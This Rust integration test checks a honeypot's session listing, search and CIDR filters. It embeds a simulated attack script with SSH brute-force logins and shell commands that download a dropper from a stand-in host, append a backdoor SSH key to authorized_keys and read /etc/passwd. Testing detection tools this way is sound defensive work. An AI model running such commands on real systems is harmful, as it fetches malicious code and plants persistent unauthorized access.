//! The analyst's view (#25): with a thousand scanner connections and two
//! hundred failed logins around one interactive SSH session (paramiko), the
//! default Sessions view shows that session first, every filter narrows,
//! paging reaches every session once; search finds an upload's SHA-256, a key
//! comment inside a typed command, a URL path and a user agent; CIDR filters
//! (IPv4 and IPv6) work; the dashboard's password link lists exactly the
//! events with that password.

use std::collections::HashSet;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::util::{Server, all_events, client, token, web_login};

/// The attack, in Python with paramiko: scanner connections (connect, read
/// the banner, close), 200 failed logins (one a connection),
/// one interactive shell with a dropper, a key and an upload, then more
/// scanner connections. Prints `sha256 <hex>` of the uploaded file.
const ATTACK: &str = r##"
import hashlib, socket, sys, time, paramiko
host, port = sys.argv[1], int(sys.argv[2])

def scan(n):
    for _ in range(n):
        s = socket.create_connection((host, port), timeout=10)
        try:
            s.recv(64)
        except OSError:
            pass
        s.close()

def failed(n):
    # One attempt a connection: paramiko's second attempt on a transport
    # waits out its own 30 s timeout after the first is refused.
    for i in range(n):
        t = paramiko.Transport((host, port))
        t.start_client(timeout=20)
        try:
            t.auth_password("admin", "spring-pw-%d" % (i % 2))
        except paramiko.AuthenticationException:
            pass
        t.close()

scan(500)
failed(200)
c = paramiko.SSHClient()
c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
c.connect(host, port, username="root", password="123456", look_for_keys=False, allow_agent=False, timeout=20)
ch = c.invoke_shell()
for line in ["uname -a",
             "wget http://198.51.100.7/bins/dropper.sh",
             "echo \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC0 mdrfckr\" >> ~/.ssh/authorized_keys",
             "awk \"{print \\$4}\" /etc/passwd",
             "exit"]:
    ch.send(line + "\n")
    time.sleep(0.3)
end = time.time() + 10
while not ch.exit_status_ready() and time.time() < end:
    if ch.recv_ready():
        ch.recv(65536)
    time.sleep(0.05)
ch.close()
payload = b"#!/bin/sh\necho nectar-analyst-sample\n"
stdin, stdout, stderr = c.exec_command("cat > /tmp/.x")
stdin.write(payload)
stdin.channel.shutdown_write()
stdout.channel.recv_exit_status()
c.close()
print("sha256", hashlib.sha256(payload).hexdigest())
scan(500)
"##;

fn python_with_paramiko() -> Option<&'static str> {
    ["/usr/bin/python3", "python3"].into_iter().find(|python| {
        std::process::Command::new(python)
            .args(["-c", "import paramiko"])
            .output()
            .is_ok_and(|o| o.status.success())
    })
}

fn get_json(url: &str, token: &str) -> Value {
    let answer = client().get(url).bearer_auth(token).send().unwrap();
    assert_eq!(answer.status(), 200, "{url}");
    answer.json().unwrap()
}

/// Every session the API lists for `query`, following cursors.
fn all_sessions(url: &str, token: &str, query: &str) -> Vec<Value> {
    let mut sessions = Vec::new();
    let mut cursor: Option<String> = None;
    for _ in 0..1_000 {
        let mut full = format!("{url}/api/v1/sessions?range=all&limit=97&{query}");
        if let Some(c) = &cursor {
            full.push_str("&cursor=");
            full.push_str(&crate::util::encode(c));
        }
        let body = get_json(&full, token);
        sessions.extend(body["sessions"].as_array().unwrap().iter().cloned());
        match body["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => return sessions,
        }
    }
    panic!("paging did not end");
}

#[test]
fn the_interactive_session_surfaces_and_search_finds_what_attackers_sent() {
    let Some(python) = python_with_paramiko() else {
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "paramiko is needed (apt-get install python3-paramiko)"
        );
        eprintln!("skipping: paramiko not installed");
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let analyst = token(&data, "analyst-1", "analyst");
    let server = Server::start(&data, None);
    let ssh = server.ssh_addr.clone().expect("the SSH honeypot runs");
    let (host, port) = ssh.rsplit_once(':').unwrap();
    let out = std::process::Command::new("timeout")
        .args(["600", python, "-c", ATTACK, host, port])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(
        out.status.success(),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let sha256 = stdout
        .lines()
        .find_map(|l| l.strip_prefix("sha256 "))
        .expect("the upload's hash")
        .to_owned();

    // An HTTP request with a distinctive user agent and path.
    let http = server
        .printed_after("HTTP honeypot listening on ")
        .expect("the HTTP honeypot runs");
    let mut s = TcpStream::connect(http.trim()).unwrap();
    s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    s.write_all(
        b"GET /cgi-bin/luci/analyst-probe HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (NectarProbe/4.2)\r\nConnection: close\r\n\r\n",
    )
    .unwrap();
    let _ = s.read_to_end(&mut Vec::new());

    // Events from documentation networks, posted (the honeypots see only loopback).
    let posted: Vec<Value> = [
        "203.0.113.5",
        "203.0.113.200",
        "198.51.100.9",
        "2001:db8:1:2::5",
        "2001:db8:1:ffff::6",
        "2001:db8:2::7",
    ]
    .iter()
    .map(|ip| json!({"kind": "http.request", "severity": "low", "src_ip": ip, "summary": "posted"}))
    .collect();
    let answer = client()
        .post(format!("{}/api/v1/events", server.url))
        .bearer_auth(&analyst)
        .json(&posted)
        .send()
        .unwrap();
    assert_eq!(answer.status(), 200);

    // Wait until the closing scanner connections are stored.
    let deadline = Instant::now() + Duration::from_secs(60);
    let sessions = loop {
        let sessions = all_sessions(&server.url, &analyst, "");
        if sessions.len() >= 1_201 || Instant::now() > deadline {
            break sessions;
        }
        std::thread::sleep(Duration::from_millis(500));
    };
    // Paging reaches every session once.
    let ids: HashSet<&str> = sessions
        .iter()
        .map(|s| s["session"].as_str().unwrap())
        .collect();
    assert_eq!(ids.len(), sessions.len(), "a session listed twice");
    assert!(sessions.len() >= 1_201, "{}", sessions.len());
    assert!(
        sessions.iter().all(|s| s["protocol"] == "ssh"),
        "HTTP requests are not sessions"
    );

    // The default view: the interactive session first.
    let first = get_json(&format!("{}/api/v1/sessions", server.url), &analyst);
    let top = &first["sessions"][0];
    assert_eq!(top["username"], "root", "{top}");
    assert!(top["commands"].as_i64().unwrap() >= 4, "{top}");
    // The exec'd file and the key written with `echo >>`.
    assert_eq!(top["uploads"], 2, "{top}");
    let shell = top["session"].as_str().unwrap().to_owned();
    let cookie = web_login(&server, &data);
    let page = |path: &str| -> String {
        let answer = client()
            .get(format!("{}{path}", server.url))
            .header("cookie", &cookie)
            .send()
            .unwrap();
        assert_eq!(answer.status(), 200, "{path}");
        answer.text().unwrap()
    };
    let html = page("/sessions");
    assert!(html.contains(&format!("/sessions/{shell}")), "{html}");
    assert!(html.contains("Next page"), "the page says it is cut");

    // Every filter narrows.
    let count = |query: &str| all_sessions(&server.url, &analyst, query).len();
    let total = sessions.len();
    assert_eq!(count("logged_in=yes"), 1);
    assert_eq!(count("logged_in=no"), total - 1);
    assert_eq!(count("has_commands=1"), 1);
    assert_eq!(count("has_uploads=1"), 1);
    assert_eq!(count("min_commands=4"), 1);
    assert_eq!(count("min_commands=1000"), 0);
    assert_eq!(count("q=mdrfckr"), 1);
    assert_eq!(count("q=nosuchcommandword"), 0);
    assert_eq!(count("protocol=telnet"), 0);
    assert_eq!(count("protocol=http"), 1);
    assert_eq!(count("src_ip=127.0.0.0/8"), total);
    assert_eq!(count("src_ip=203.0.113.0/24"), 0);
    assert_eq!(count("sensor=nobody"), 0);
    let failing = count("order=newest&logged_in=no&q=");
    assert_eq!(failing, total - 1);
    let bad = client()
        .get(format!("{}/api/v1/sessions?src_ip=10.0.0.0/99", server.url))
        .bearer_auth(&analyst)
        .send()
        .unwrap();
    assert_eq!(bad.status(), 400);
    assert!(bad.text().unwrap().contains("src_ip"));

    // Search finds what attackers sent, not only summaries.
    let search = |q: &str| {
        all_events(
            &server.url,
            &analyst,
            &format!("q={}", crate::util::encode(q)),
        )
    };
    let uploads = search(&sha256);
    assert_eq!(uploads.len(), 1, "{uploads:?}");
    assert_eq!(uploads[0]["kind"], "ssh.upload");
    let keys = search("mdrfckr");
    assert!(keys.iter().any(|e| e["kind"] == "ssh.command"), "{keys:?}");
    let url_path = search("/bins/dropper.sh");
    assert!(!url_path.is_empty(), "the URL path");
    assert!(
        search("\"dropper sh bins\"").is_empty(),
        "a phrase keeps its order"
    );
    let agents = search("NectarProbe");
    assert_eq!(agents.len(), 1, "{agents:?}");
    assert_eq!(agents[0]["kind"], "http.request");
    assert_eq!(search("cgi-bin/luci/analyst-probe").len(), 1);
    assert!(!search("dropp*").is_empty(), "prefix");

    // CIDR filters.
    let events = |q: &str| all_events(&server.url, &analyst, q);
    assert_eq!(events("src_ip=203.0.113.0/24").len(), 2);
    assert_eq!(events("src_ip=2001:db8:1::/48").len(), 2);
    assert_eq!(events("src_ip=2001:db8::/32").len(), 3);
    assert_eq!(events("src_ip=203.0.113.200").len(), 1);

    // The dashboard's password link lists exactly the events with it.
    let dashboard = page("/?range=1h");
    let link = dashboard
        .split("href=\"")
        .filter_map(|s| s.split('"').next())
        .find(|h| h.starts_with("/events?password=spring-pw-0"))
        .unwrap_or_else(|| panic!("no password link: {dashboard}"))
        .replace("&#38;", "&")
        .replace("&amp;", "&");
    let expected = all_events(&server.url, &analyst, "kind=ssh.login.failed")
        .iter()
        .filter(|e| e["data"]["password"] == "spring-pw-0")
        .count();
    assert_eq!(expected, 100);
    let listed = page(&format!("{link}&limit=1000"));
    assert!(
        listed.contains(&format!("{expected} matches")),
        "{expected} expected"
    );
    let rows = listed
        .matches("<td class=\"nowrap\"><a href=\"/events/")
        .count();
    assert_eq!(rows, expected);
    let api_query = link.trim_start_matches("/events?");
    assert_eq!(all_events(&server.url, &analyst, api_query).len(), expected);
}
